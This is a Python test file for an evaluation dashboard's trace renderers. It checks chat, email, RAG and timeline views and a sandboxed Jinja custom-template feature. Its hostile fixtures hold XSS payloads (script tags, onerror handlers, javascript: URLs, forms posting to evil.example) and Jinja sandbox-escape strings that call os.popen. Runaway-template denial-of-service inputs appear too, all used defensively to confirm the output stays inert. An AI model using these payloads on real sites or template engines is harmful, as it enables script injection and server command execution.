"""Trace views: realistic traces show what a reviewer needs, hostile traces show nothing live.

Safety is checked on the parsed HTML (html.parser), not by substring: no script-capable tags,
no on* attributes, no javascript:/data: URLs, no style attributes beyond the timeline's
geometry, and only our own <style> block. The hostile text must still be *visible* as text.
"""

from __future__ import annotations

import os
import re
import time
from datetime import datetime, timedelta, timezone
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from evalboard.models import Message, Span, ToolCall, TraceRecord
from evalboard.render import (
    RENDERER_LABELS,
    RENDERERS,
    TemplateError,
    detect_renderer,
    render_template,
    render_trace,
    sanitize_html,
)
from evalboard.render.safe import STYLE, html_depth, pretty_json, to_plain

FUZZ_EXAMPLES = int(os.environ.get("EVALBOARD_FUZZ_EXAMPLES", "300"))
"""Generated templates in the property test; CI raises it (e.g. 2000) through the env var."""

T0 = datetime(2026, 11, 1, 12, 0, 0, tzinfo=timezone.utc)
ALL_VIEWS = [name for name in RENDERERS if name != "custom"]


# --- parsing helpers ----------------------------------------------------------------------


class _Page(HTMLParser):
    """Collects tags, attributes and visible text of a rendered view."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if tag == "style":
            self._in_style = False

    def handle_data(self, data):
        (self.styles if self._in_style else self.text).append(data)

    @property
    def visible(self) -> str:
        return "".join(self.text)

    def by_class(self, cls: str) -> list[dict[str, str | None]]:
        return [a for _, a in self.tags if cls in (a.get("class") or "").split()]


def parse(html: str) -> _Page:
    page = _Page()
    page.feed(html)
    page.close()
    return page


FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "form", "input", "button", "textarea", "select",
    "svg", "math", "link", "meta", "base", "frame", "frameset", "template", "noscript", "applet",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster"}
SAFE_STYLE = re.compile(r"(?:(?:width|margin-left):\d+(?:\.\d+)?(?:%|px);?)+")


def assert_safe(html: str, *, own_style: bool = True) -> _Page:
    """Fail if `html` could run script, load a dangerous URL or restyle the page."""
    assert "<script" not in html.lower()
    page = parse(html)
    styles = [t for t, _ in page.tags if t == "style"]
    if own_style:
        assert html.startswith(f"<style>{STYLE}</style>")
        assert len(styles) == 1, "only our own <style> block may appear"
    else:
        assert not styles
    for tag, attrs in page.tags:
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            value = value or ""
            if name in URL_ATTRIBUTES:
                squashed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                assert not squashed.startswith(("javascript:", "vbscript:", "data:")), value
            if name == "style":
                assert SAFE_STYLE.fullmatch(value.replace(" ", "")), value
            assert "javascript:" not in value.lower(), (tag, name, value)
    return page


@pytest.mark.parametrize(
    "bad",
    [
        "<img src=x onerror=alert(1)>",
        '<a href=" jav&#x09;ascript:alert(1)">x</a>',
        "<svg><circle/></svg>",
        '<div style="background:url(https://x.example/)">x</div>',
        "<style>body{display:none}</style>",
        "<SCRIPT>alert(1)</SCRIPT>",
    ],
)
def test_the_safety_check_itself_catches_live_markup(bad):
    with pytest.raises(AssertionError):
        assert_safe(bad, own_style=False)


# --- realistic traces ---------------------------------------------------------------------


def chat_trace() -> TraceRecord:
    return TraceRecord(
        source="demo",
        source_id="chat-1",
        messages=[
            Message(role="system", content="You are a travel assistant."),
            Message(role="user", content="What's the weather in Lisbon?"),
            Message(
                role="assistant",
                content=None,
                tool_calls=[
                    ToolCall(id="call_7", name="get_weather", arguments='{"city": "Lisbon", "unit": "C"}')
                ],
            ),
            Message(role="tool", tool_call_id="call_7", content='{"temp": 21, "sky": "sunny"}'),
            Message(role="assistant", content="It is **21 °C** and sunny in Lisbon."),
        ],
    )


EMAIL_TEXT = """Here is the draft:

**Subject:** Your order #4821 is delayed
To: ana@example.com, Bob <bob@example.com>
Cc: support@example.com

Dear Ana,

I'm sorry to tell you that your order will arrive two days late.

We have refunded the shipping fee.

Best regards,
Maria Lopez
Customer Care
"""


def email_trace() -> TraceRecord:
    return TraceRecord(source="demo", source_id="email-1", input="Tell Ana her order is late", output=EMAIL_TEXT)


def rag_trace() -> TraceRecord:
    docs = [
        {
            "text": "Construction began in 1887 and finished in 1889.",
            "score": 0.91,
            "metadata": {"source": "https://en.wikipedia.org/wiki/Eiffel_Tower", "title": "Eiffel Tower"},
        },
        {"content": "The tower is 330 metres tall.", "score": 0.82, "title": "Height facts"},
        {"page_content": "Gustave Eiffel's company designed it.", "id": "kb-9", "score": 0.4},
    ]
    return TraceRecord(
        source="demo",
        source_id="rag-1",
        input={"question": "When was the Eiffel Tower built?"},
        output={"answer": "Built 1887 to 1889 [1]. It is 330 m tall [2][kb-9]. Repainted every 7 years [4]."},
        spans=[Span(id="r1", type="RETRIEVER", name="vector-search", output=docs)],
    )


def agent_trace() -> TraceRecord:
    def at(seconds: float) -> datetime:
        return T0 + timedelta(seconds=seconds)

    return TraceRecord(
        source="demo",
        source_id="agent-1",
        timestamp=T0,
        end_time=at(10),
        input="Book a table for two at 19:00",
        output="Sorry, I could not book the table.",
        spans=[
            Span(id="a", type="AGENT", name="planner", start_time=at(0), end_time=at(10)),
            Span(id="g", parent_id="a", type="GENERATION", name="plan", model="gpt-4o",
                 input_tokens=120, output_tokens=40, cost=0.0021, start_time=at(0), end_time=at(2)),
            Span(id="t", parent_id="a", type="TOOL", name="book_table", level="ERROR",
                 status_message="HTTP 503 from booking API", input={"time": "19:00"},
                 start_time=at(2), end_time=at(7)),
            Span(id="g2", parent_id="a", type="GENERATION", name="apologise", model="gpt-4o",
                 start_time=at(7), end_time=at(10)),
        ],
    )  # fmt: skip


def test_registry_has_labels_and_unknown_names_are_refused():
    assert list(RENDERERS) == ["chat", "email", "rag", "markdown", "timeline", "json", "raw", "custom"]
    assert RENDERER_LABELS["rag"] == "RAG answer with sources"
    with pytest.raises(ValueError, match="unknown renderer 'fancy'.*chat, email, rag"):
        render_trace(chat_trace(), "fancy")


def test_detect_renderer_picks_the_view_that_fits():
    assert detect_renderer(chat_trace()) == "chat"
    assert detect_renderer(rag_trace()) == "rag"
    assert detect_renderer(email_trace()) == "email"
    assert detect_renderer(agent_trace()) == "timeline"
    assert detect_renderer(TraceRecord(source="s", source_id="1", input="q", output="plain answer")) == "markdown"


def test_chat_shows_roles_tool_call_and_result_linked_to_the_call():
    page = assert_safe(render_trace(chat_trace(), "chat"))
    roles = [a["class"].split()[1] for a in page.by_class("eb-msg")]
    assert roles == ["eb-role-system", "eb-role-user", "eb-role-assistant", "eb-role-tool", "eb-role-assistant"]
    text = page.visible
    assert "get_weather" in text and '"city": "Lisbon"' in text  # arguments pretty-printed
    assert '"temp": 21' in text
    [call] = page.by_class("eb-tool-call")
    links = [a["href"] for t, a in page.tags if t == "a"]
    assert links == ["#" + call["id"]]
    assert ("strong", {}) in page.tags  # assistant Markdown rendered


def test_chat_reads_openai_messages_from_input_and_falls_back_to_input_output():
    trace = TraceRecord(
        source="s",
        source_id="2",
        input={"messages": [{"role": "user", "content": "Find flights"}]},
        output={"role": "assistant", "tool_calls": [
            {"id": "c1", "type": "function", "function": {"name": "search_flights", "arguments": "{bad json"}}
        ]},
    )  # fmt: skip
    text = assert_safe(render_trace(trace, "chat")).visible
    assert "Find flights" in text and "search_flights" in text
    assert "Arguments are not valid JSON" in text and "{bad json" in text
    plain = TraceRecord(source="s", source_id="3", input="hello there", output="general kenobi")
    page = assert_safe(render_trace(plain, "chat"))
    assert "hello there" in page.visible and "general kenobi" in page.visible
    assert len(page.by_class("eb-msg")) == 2


def test_email_card_has_subject_recipients_greeting_body_and_signature():
    page = assert_safe(render_trace(email_trace(), "email"))
    html = render_trace(email_trace(), "email")
    assert 'class="eb-email-subject">Your order #4821 is delayed<' in html
    assert '<bdi>Bob &lt;bob@example.com&gt;</bdi>' in html
    assert 'class="eb-email-greeting">Dear Ana,</p>' in html
    assert "<p>We have refunded the shipping fee.</p>" in html
    assert "Best regards,\nMaria Lopez\nCustomer Care" in page.visible
    assert len(page.by_class("eb-chip")) == 3


def test_email_from_a_dict_and_a_non_email_output():
    trace = TraceRecord(
        source="s",
        source_id="e2",
        output={"subject": "Invoice", "to": ["sam@example.com"], "body": "Hi Sam,\n\nAttached.\n\nThanks,\nLee"},
    )
    html = render_trace(trace, "email")
    assert 'eb-email-subject">Invoice<' in html and "sam@example.com" in html
    assert 'eb-email-greeting">Hi Sam,<' in html and "Thanks,\nLee" in parse(html).visible
    plain = TraceRecord(source="s", source_id="e3", output="The capital of France is Paris.")
    assert "No email found" in render_trace(plain, "email")


def test_rag_links_citations_to_documents_and_flags_missing_ones():
    html = render_trace(rag_trace(), "rag")
    page = assert_safe(html)
    anchors = {a["id"] for _, a in page.tags if (a.get("id") or "").endswith(("-doc-1", "-doc-2", "-doc-3"))}
    assert len(anchors) == 3
    cites = page.by_class("eb-cite")
    linked = [c["href"][1:] for c in cites if c.get("href")]
    assert len(linked) == 3 and set(linked) == anchors  # [1], [2] and [kb-9]
    assert [c for c in cites if "eb-cite-missing" in c["class"]]  # [4] has no document
    text = page.visible
    assert "When was the Eiffel Tower built?" in text
    assert "Construction began in 1887" in text and "score 0.91" in text
    assert 'href="https://en.wikipedia.org/wiki/Eiffel_Tower"' in html


def test_rag_reads_documents_from_output_fields():
    trace = TraceRecord(
        source="s",
        source_id="r2",
        input="What is X?",
        output={"answer": "X is Y [2].", "sources": ["X is Y.", "Y is Z."]},
    )
    assert detect_renderer(trace) == "rag"
    page = assert_safe(render_trace(trace, "rag"))
    assert "Retrieved documents (2)" in page.visible
    assert [c["href"].rsplit("-", 1)[1] for c in page.by_class("eb-cite")] == ["2"]


def test_timeline_nests_spans_with_proportional_bars_and_highlights_errors():
    html = render_trace(agent_trace(), "timeline")
    page = assert_safe(html)
    spans = page.by_class("eb-span")
    assert [s["style"] for s in spans] == ["margin-left:0px", "margin-left:14px", "margin-left:14px", "margin-left:14px"]
    assert "eb-level-error" in spans[2]["class"]
    bars = [b["style"] for b in page.by_class("eb-bar")]
    assert bars[2] == "margin-left:20.00%;width:50.00%"  # 2 s..7 s of a 10 s trace
    text = page.visible
    assert "HTTP 503 from booking API" in text and "gpt-4o" in text and "120 → 40 tok" in text
    assert "$0.0021" in text and "1 error" in text


def test_timeline_survives_cycles_missing_parents_and_mixed_timezones():
    naive = datetime(2026, 11, 1, 12, 0, 0)
    trace = TraceRecord(
        source="s",
        source_id="cyc",
        spans=[
            Span(id="x", parent_id="y", start_time=naive, end_time=T0 + timedelta(seconds=1)),
            Span(id="y", parent_id="x"),
            Span(id="z", parent_id="missing"),
        ],
    )
    page = assert_safe(render_trace(trace, "timeline"))
    assert len(page.by_class("eb-span")) == 3


def test_markdown_json_and_raw_views():
    trace = TraceRecord(source="s", source_id="m", input="# Title", output="- one\n- two\n\n`code`")
    page = assert_safe(render_trace(trace, "markdown"))
    assert ("h1", {}) in page.tags and ("li", {}) in page.tags
    assert '"source_id": "m"' in parse(render_trace(trace, "json")).visible
    raw = parse(render_trace(trace, "raw")).visible
    assert "- one\n- two" in raw and "# Title" in raw


def test_markdown_images_become_links_and_are_not_loaded():
    trace = TraceRecord(source="s", source_id="img", output="![chart](https://tracker.example/p.png?d=secret)")
    page = assert_safe(render_trace(trace, "markdown"))
    assert not [t for t, _ in page.tags if t == "img"]
    assert ("a", {"href": "https://tracker.example/p.png?d=secret", "rel": "noopener noreferrer"}) in page.tags
    assert "[image: chart]" in page.visible


def test_a_failing_view_falls_back_to_raw_with_a_note(monkeypatch):
    def broken(trace, **opts):
        raise KeyError("oops")

    monkeypatch.setitem(RENDERERS, "chat", broken)
    html = render_trace(chat_trace(), "chat")
    assert_safe(html)
    assert "The chat view failed (KeyError" in parse(html).visible


# --- hostile traces -----------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<style>body{display:none}</style>",
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    '<div style="width:expression(alert(1))">css</div>',
    "[link](javascript:alert(1)) ![img](data:image/png;base64,AAAA)",
    '<form action="https://evil.example/"><input name=q></form><object data="x.swf"></object>',
]
# Payloads that must read back verbatim in every view that shows the text (no quotes, so JSON
# escaping doesn't change them either).
VISIBLE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"]
TRICKY = "rtl:abc\u202edcba zw:a\u200bb iso:\u2066x\u2069 \u2067y\u2068 lone:\ud800 nul:\x00 tag:\U000e0041"
HOSTILE = "\n\n".join(PAYLOADS) + "\n\n" + TRICKY


def _deep(depth: int) -> dict:
    root = node = {}
    for _ in range(depth):
        node["k"] = {}
        node = node["k"]
    return root


def hostile_trace() -> TraceRecord:
    docs = [
        {"text": HOSTILE, "title": PAYLOADS[1], "url": "javascript:alert(1)", "id": "<b>x</b>"},
        {"content": PAYLOADS[0], "source": "data:text/html,<script>alert(1)</script>"},
    ]
    return TraceRecord(
        source="<script>",
        source_id=PAYLOADS[2],
        name=PAYLOADS[0],
        input=HOSTILE,
        output=HOSTILE + " [1] [2]",
        messages=[
            Message(role="system", content=HOSTILE),
            Message(role="user\" onclick=\"alert(1)", content=HOSTILE, name=PAYLOADS[1]),
            Message(role="assistant", content=[{"type": "text", "text": HOSTILE},
                                                {"type": "image_url", "image_url": {"url": "javascript:alert(1)"}}],
                    tool_calls=[ToolCall(id='"><script>', name=PAYLOADS[4], arguments=HOSTILE)]),
            Message(role="tool", tool_call_id='"><script>', content=HOSTILE),
            Message(role="assistant", content=HOSTILE),
        ],
        spans=[
            Span(id="s1", type="<b>RETRIEVER</b>", name=PAYLOADS[0], output=docs),
            Span(id="s2", parent_id="s1", type="RETRIEVER", name="retrieval", output=docs,
                 start_time=T0, end_time=T0 + timedelta(seconds=1)),
            Span(id="s3\" onmouseover=\"x", parent_id="s1", level="ERROR", status_message=HOSTILE,
                 model=PAYLOADS[5], input=HOSTILE, output={"html": HOSTILE}),
        ],
        metadata={"documents": docs, PAYLOADS[0]: PAYLOADS[6]},
        tags=[PAYLOADS[0]],
        error=HOSTILE,
    )  # fmt: skip


def huge_trace() -> TraceRecord:
    line = "A" * 1_000_000
    return TraceRecord(
        source="s",
        source_id="huge",
        input=line,
        output=line,
        messages=[Message(role="assistant", content=line, tool_calls=[ToolCall(name="t", arguments=line)])],
        spans=[Span(id="a", input=line, output=line, status_message=line, level="ERROR")],
        metadata={"documents": [line]},
    )


def deep_trace() -> TraceRecord:
    deep = _deep(5_000)
    return TraceRecord(
        source="s",
        source_id="deep",
        input=deep,
        output=deep,
        messages=[Message(role="assistant", content=deep, tool_calls=[ToolCall(name="t", arguments=deep)])],
        spans=[Span(id="a", input=deep, output=deep)],
        metadata={"documents": [deep], "deep": deep},
    )


@pytest.fixture(scope="module")
def hostile_views() -> dict[str, str]:
    trace = hostile_trace()
    views = {name: render_trace(trace, name) for name in ALL_VIEWS}
    for mode in ("markdown", "html"):
        views[f"custom-{mode}"] = render_trace(
            trace, "custom", template="# {{ name }}\n\n{{ output }}\n\n{{ spans[2].status_message }}", template_mode=mode
        )
    return views


@pytest.mark.parametrize("view", ALL_VIEWS + ["custom-markdown", "custom-html"])
def test_hostile_trace_renders_inert_but_visible(hostile_views, view):
    html = hostile_views[view]
    page = assert_safe(html)
    text = page.visible
    for payload in VISIBLE:
        assert payload in text, (view, payload)
    # invisible characters are neutralised and shown as markers
    for char in ("\u202e", "\u200b", "\u2066", "\u2067", "\u2068", "\u2069", "\U000e0041", "\x00"):
        assert char not in html, (view, hex(ord(char)))
    for marker in ("⟨RLO⟩", "⟨ZWSP⟩", "⟨LRI⟩", "⟨PDI⟩", "⟨tag:A⟩", "␀", "\ufffd"):
        assert marker in text, (view, marker)


def test_hostile_rag_links_are_dropped_and_markup_in_ids_is_escaped(hostile_views):
    html = hostile_views["rag"]
    page = parse(html)
    hrefs = [a.get("href") for t, a in page.tags if t == "a"]
    assert all(h is None or h.startswith("#eb-") for h in hrefs), hrefs
    assert "<b>x</b>" in page.visible


@pytest.mark.parametrize("view", ALL_VIEWS)
def test_one_megabyte_line_is_cut_with_a_note_and_wraps(view):
    html = render_trace(huge_trace(), view)
    assert_safe(html)
    assert "overflow-wrap:anywhere" in html and "pre-wrap" in html
    assert len(html) < 3_000_000
    assert "truncated" in parse(html).visible


def test_truncation_note_names_the_full_size():
    text = parse(render_trace(huge_trace(), "raw")).visible
    assert "truncated, 1,000,000 bytes in total" in text


@pytest.mark.parametrize("view", ALL_VIEWS)
def test_depth_5000_json_does_not_crash(view):
    html = render_trace(deep_trace(), view)
    assert_safe(html)
    if view in ("json", "raw"):
        assert "nested deeper than 64 levels" in html


def test_bounded_json_helpers_handle_cycles_and_huge_ints():
    loop: list = []
    loop.append(loop)
    assert "nested deeper than" in pretty_json(loop)
    assert to_plain(10**5000).startswith("<integer of")
    assert len(pretty_json(["x" * 1000] * 10_000, limit=5_000)) < 5_200


def test_sanitize_html_allowlist():
    dirty = (
        '<p onclick="x">hi <a href="javascript:alert(1)">a</a> <a href="https://ok.example">b</a>'
        '<img src="data:image/png;base64,AA" onerror="x"><script>alert(1)</script>'
        "<style>p{}</style><iframe></iframe><b style=\"color:red\">bold</b></p>"
    )
    clean = sanitize_html(dirty)
    page = assert_safe(clean, own_style=False)
    assert ("a", {"href": "https://ok.example", "rel": "noopener noreferrer"}) in page.tags
    assert ("b", {}) in page.tags
    assert "alert" not in page.visible  # script content dropped, not shown
    assert sanitize_html("a\ud800<b>b</b>\u202e") == "a\ufffd<b>b</b>⟨RLO⟩"


def test_deeply_nested_html_is_shown_as_text_not_parsed():
    markup = "<div>" * 100_000 + "x"
    assert html_depth(markup) == 100_000
    out = sanitize_html(markup)
    assert out.startswith('<div class="eb-note">') and "&lt;div&gt;" in out


# --- custom templates ---------------------------------------------------------------------


def test_custom_template_markdown_and_html_modes():
    trace = rag_trace()
    md = render_trace(trace, "custom", template="## {{ input.question }}\n\n{{ output.answer | truncate(20) }}")
    page = assert_safe(md)
    assert ("h2", {}) in page.tags and "When was the Eiffel Tower built?" in page.visible
    html = render_trace(
        trace,
        "custom",
        template="<ul>{% for s in spans %}<li onclick=x>{{ s.name }} ({{ s.output | length }} docs)</li>{% endfor %}</ul>"
        "<script>steal()</script>",
        template_mode="html",
    )
    page = assert_safe(html)
    assert "vector-search (3 docs)" in page.visible and "steal" not in page.visible


def test_template_helpers_tojson_and_pretty():
    out = render_template("{{ input | tojson }} {{ input | pretty }}", rag_trace(), "html")
    assert "When was the Eiffel Tower built?" in parse(out).visible


@pytest.mark.parametrize(
    "source",
    [
        "{{ ''.__class__ }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ [].__class__.__base__.__subclasses__() }}",
        "{{ trace.__class__ }}",
        "{{ ''.mro() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ joiner.__init__.__globals__ }}",
        "{{ namespace.__init__.__globals__ }}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{{ self._TemplateReference__context }}",
        "{{ self.__dict__ }}",
        "{{ range.__self__ }}",
        "{{ request.application.__globals__ }}",
        "{{ 'a'.format.__globals__ }}",
        "{{ '{0.__class__}'.format('') }}",
        "{{ trace.update({'x': 1}) }}",
        "{{ spans.append(1) }}",
        "{% set x = ''.__class__ %}{{ x }}",
    ],
)
def test_sandbox_escapes_are_refused(source):
    with pytest.raises(TemplateError):
        render_template(source, chat_trace(), "html")


@pytest.mark.parametrize(
    "source",
    [
        "{% for i in range(10**9) %}x{% endfor %}",
        "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}",
        # nested loops over data make no calls at all: only the line-level deadline stops them
        "{% set s = 'x' * 3000 %}{% for a in s %}{% for b in s %}{% for c in s %}{% endfor %}{% endfor %}{% endfor %}",
        "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(40) }}",
        "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
        "{{ 'a' * 10**9 }}",
        "{{ 9 ** (9 ** 9) }}",
        "{{ 'x' | center(10**9) }}",
        "{{ 'x'.ljust(10**9) }}",
        "{{ 'x' | indent(10**6) }}",
        "{{ '%999999999d' % 1 }}",
        "{{ '{:999999999}'.format(1) }}",
        "{{ [1, 2] | batch(10**9, 'x') | list }}",
        "{% set s = 'x' * 1000000 %}{{ s | replace('', s) }}",
        "{% set s = 'x' * 1000000 %}{{ s.join(range(9000) | map('string')) }}",
        "{% set s = 'x' * 1000000 %}{{ [s] * 100 }}",
        "{% set ns = namespace(s='x' * 1000000) %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
        "{% for i in range(10000) %}{{ 'y' * 1000 }}{% endfor %}",
        "{% set s = 'x' * 1000000 %}{% macro m() %}{% for i in range(9000) %}{{ s }}{% endfor %}{% endmacro %}{{ m() | length }}",
        "{{ lipsum(10**7) }}",
    ],
)
def test_runaway_templates_are_stopped_quickly(source):
    started = time.monotonic()
    with pytest.raises(TemplateError) as error:
        render_template(source, chat_trace(), "markdown", time_limit=0.5)
    assert time.monotonic() - started < 5
    assert error.value.message


def test_template_errors_report_the_line():
    with pytest.raises(TemplateError) as syntax:
        render_template("fine\n{{ name }}\n{% for x in %}\n", chat_trace())
    assert syntax.value.lineno == 3 and "syntax error" in syntax.value.message
    with pytest.raises(TemplateError) as undefined:
        render_template("a\nb\n\n{{ trace.nope.deeper }}", chat_trace())
    assert undefined.value.lineno == 4 and "nope" in undefined.value.message
    with pytest.raises(TemplateError) as refused:
        render_template("\n{{ ''.__class__ }}", chat_trace())
    assert refused.value.lineno == 2 and "not allowed" in refused.value.message
    assert str(refused.value).startswith("line 2: ")


def test_custom_view_without_template_or_with_bad_mode_raises_template_error():
    with pytest.raises(TemplateError, match="no template"):
        render_trace(chat_trace(), "custom")
    with pytest.raises(TemplateError, match="mode"):
        render_trace(chat_trace(), "custom", template="x", template_mode="pdf")


# --- property test ------------------------------------------------------------------------

_ATOMS = [
    "trace", "input", "output", "messages", "spans", "metadata", "name", "self", "range",
    "namespace", "dict", "cycler", "lipsum", "loop", "'<script>alert(1)</script>'", "1", "10**9",
    "'x'", "[1, 'a']", "{'a': '<b>'}", "none", "true",
]  # fmt: skip
_TRAILERS = [
    ".__class__", ".__mro__", ".mro()", ".__globals__", ".__init__", ".__subclasses__()",
    "._TemplateReference__context", ".items()", ".keys()", ".upper()", ".format(1)", ".pop()",
    ".__self__", ".__func__", "[0]", "['role']", ".content", "(1)", "()", "|e", "|safe",
    "|tojson", "|string", "|join", "|length", "|center(5)", "|list", "|first", "|pprint",
    "|truncate(3)", "|replace('<', '&lt;')", "|format(1)", "|pretty", "|attr('__class__')",
    "|map('upper')|list", " ~ '<img src=x onerror=alert(1)>'", " * 3", " + 'a'", " % 1",
]  # fmt: skip
_STATEMENTS = [
    "{% for x in messages %}{{ x.content }}{% endfor %}",
    "{% if output %}<script>{{ output }}</script>{% endif %}",
    "{% set y = output %}{{ y|safe }}",
    "<a href=\"javascript:{{ output }}\" onclick=\"{{ output }}\">l</a>",
    "<svg onload=alert(1)><style>body{}</style>",
    "{% macro m(a) %}{{ a }}{% endmacro %}{{ m(output) }}",
    "{% raw %}{{ not code }}{% endraw %}",
    "{% include 'x' %}",
    "{% for i in range(3) %}{{ loop.index }}{% endfor %}",
    "{{",
    "{%",
    "}}",
]  # fmt: skip

expressions = st.builds(
    lambda atom, trailers: atom + "".join(trailers),
    st.sampled_from(_ATOMS),
    st.lists(st.sampled_from(_TRAILERS), max_size=3),
)
fragments = st.one_of(
    expressions.map(lambda e: "{{ " + e + " }}"),
    st.sampled_from(_STATEMENTS),
    st.text(alphabet=st.sampled_from(list("{}%#<>/'\"=ab \n")), max_size=12),
    st.sampled_from(PAYLOADS),
)
templates = st.lists(fragments, min_size=1, max_size=6).map("".join)
values = st.one_of(
    st.text(max_size=30),
    st.sampled_from(PAYLOADS + [TRICKY, "\ud800", "\u202e<script>"]),
    st.dictionaries(st.sampled_from(["a", "html", "role"]), st.sampled_from(PAYLOADS), max_size=2),
    st.lists(st.sampled_from(PAYLOADS), max_size=3),
)


@settings(
    max_examples=FUZZ_EXAMPLES,
    deadline=None,
    database=None,
    phases=[Phase.explicit, Phase.reuse, Phase.generate, Phase.shrink],
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
)
@given(template=templates, output=values, mode=st.sampled_from(["markdown", "html"]))
def test_render_template_only_raises_template_error_and_never_emits_script(template, output, mode):
    trace = TraceRecord(
        source="s",
        source_id="fuzz",
        input=output,
        output=output,
        messages=[Message(role="user", content=output)],
    )
    try:
        html = render_template(template, trace, mode, time_limit=0.5)
    except TemplateError as error:
        assert error.message
        return
    assert_safe(html, own_style=False)
